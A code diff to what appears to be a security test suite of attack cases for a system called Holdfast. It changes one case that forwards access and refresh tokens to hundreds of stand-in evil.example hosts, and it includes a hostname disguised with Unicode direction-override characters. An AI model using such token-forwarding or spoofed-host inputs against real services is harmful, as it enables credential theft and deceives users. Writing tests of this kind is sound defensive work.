@@ -54,11 +54,11 @@ export const FROM_PAGE: readonly Attack[] = [
       ),
   },
   {
-    name: 'reports of handles: to thousands of servers, in names that turn, of nobody, and of what is none',
+    name: 'reports of handles: to hundreds of servers, in names that turn, of nobody, and of what is none',
     hope: 'a full log, a host that reads as another, an error of Holdfast’s',
     run: (place, { access, refresh, resource }) =>
       speak(place, [
-        ...Array.from({ length: 2_000 }, (_, number) =>
+        ...Array.from({ length: 300 }, (_, number) =>
           passedOn(`https://h${number}.evil.example/`, [access, refresh]),
         ),
         passedOn('https://\u202eelpmaxe.ipa\u2066.example/', [access]),
